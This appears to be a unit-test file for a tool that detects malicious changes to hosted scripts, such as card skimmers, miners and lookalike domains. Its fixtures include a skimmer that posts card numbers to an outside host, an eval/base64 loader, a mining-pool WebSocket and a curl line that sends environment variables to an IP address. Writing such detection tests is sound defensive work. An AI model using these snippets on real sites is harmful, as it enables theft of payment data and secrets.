// Unit: analyzers explain what changed code does, and a failing analyzer becomes a finding, not a crash.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { runAnalyzers, withFindings } from '../../src/analyzers/run-analyzers.js';
import { skimmerTraits } from '../../src/analyzers/skimmer-traits.js';
import type { Analyzer, ScriptChange } from '../../src/analyzers/types.js';
import type { PlannedAlert } from '../../src/plan.js';

const LIB = 'window.lib = { init: function (el) { el.classList.add("ready"); } };';
const change = (newCode: string, oldCode: string | null = LIB): ScriptChange => ({
  oldCode, newCode, url: 'https://shop.example/lib.js', pageHost: 'shop.example', knownHosts: ['cdn.example'], paymentPage: true,
});
const titles = (c: ScriptChange) => skimmerTraits.run(c).map((f) => `${f.severity}: ${f.title}`);

describe('skimmer-traits analyzer', () => {
  it('calls an appended listener-and-send a skimmer', () => {
    const found = titles(change(`${LIB}\ndocument.getElementById("pay").addEventListener("mouseup", function () {\n  var x = new XMLHttpRequest(); x.open("POST", "https://baways.example/gateway/api"); x.send(JSON.stringify({ n: document.forms[0].cardnumber.value }));\n});`));
    assert.ok(found.includes('critical: skimmer pattern: reads form input and sends it out'), found.join('\n'));
    assert.ok(found.some((t) => t.includes('references new host baways.example')));
    assert.ok(found.some((t) => t.includes('listens to mouseup events')));
  });
  it('sees obfuscated loaders and miners', () => {
    const loader = `${LIB}\n(0, window["eval"])(atob("${Buffer.from('x'.repeat(200)).toString('base64')}"));`;
    assert.ok(titles(change(loader)).some((t) => t.startsWith('high: runs dynamic code')));
    const miner = `${LIB}\nWebAssembly.instantiate(buf); var ws = new WebSocket("wss://pool.minexmr.example:443");`;
    assert.ok(titles(change(miner)).includes('critical: crypto-miner traits'), titles(change(miner)).join('\n'));
  });
  it('stays quiet on a change that adds none of these traits', () => {
    assert.deepEqual(titles(change(`${LIB}\nwindow.lib.version = "2.0";`)), []);
  });
  it('finds new hosts in a hosted shell script by pattern', () => {
    const found = titles(change('#!/bin/sh\ncurl -sm 0.5 -d "$(env)" http://104.248.94.23/upload || true\n', '#!/bin/sh\ncurl https://uploads.example/\n'));
    assert.ok(found.some((t) => t.includes('104.248.94.23')), found.join('\n'));
  });
});

describe('runAnalyzers', () => {
  it('turns a throwing analyzer into an error finding and keeps the others', () => {
    const broken: Analyzer = { meta: { id: 'broken', title: 'throws', needs: [] }, run: () => { throw new Error('boom'); } };
    const findings = runAnalyzers(change(`${LIB};fetch("https://x.example/")`), [broken, skimmerTraits]);
    assert.deepEqual(findings[0], { analyzer: 'broken', severity: 'info', title: 'analyzer failed', detail: 'boom' });
    assert.ok(findings.length > 1);
  });
  it('raises the alert to its worst finding and explains it in the summary', () => {
    const alert = { severity: 'medium', summary: 'Script x changed', details: {} } as PlannedAlert;
    const enriched = withFindings(alert, [{ analyzer: 'a', severity: 'critical', title: 'skimmer pattern', detail: '' }]);
    assert.equal(enriched.severity, 'critical');
    assert.equal(enriched.summary, 'Script x changed; skimmer pattern');
    assert.equal(withFindings(alert, []).severity, 'medium');
  });
});

describe('lookalike hosts', () => {
  it('flags typo and brand-reuse domains of known hosts', async () => {
    const { lookalikeFindings, brandLabel } = await import('../../src/analyzers/lookalike-host.js');
    assert.equal(brandLabel('cdn.britishairways.co.uk'), 'britishairways');
    assert.equal(brandLabel('shop.test:8080'), 'shop');
    assert.match(lookalikeFindings('britishairvvays.com', ['www.britishairways.com'])[0]!.title, /edit distance 2/);
    assert.match(lookalikeFindings('neweggstats.com', ['www.newegg.com'])[0]!.title, /reuses the name of known host newegg/);
    assert.match(lookalikeFindings('jquery-cdn.example', ['code.jquery.example'])[0]!.title, /reuses the name of known host jquery/);
    assert.match(lookalikeFindings('gooogle-analytics.com', ['www.google-analytics.com'])[0]!.title, /edit distance 1/);
    assert.deepEqual(lookalikeFindings('js.stripe.com', ['shop.example', 'cdn.example']), []);
  });
});
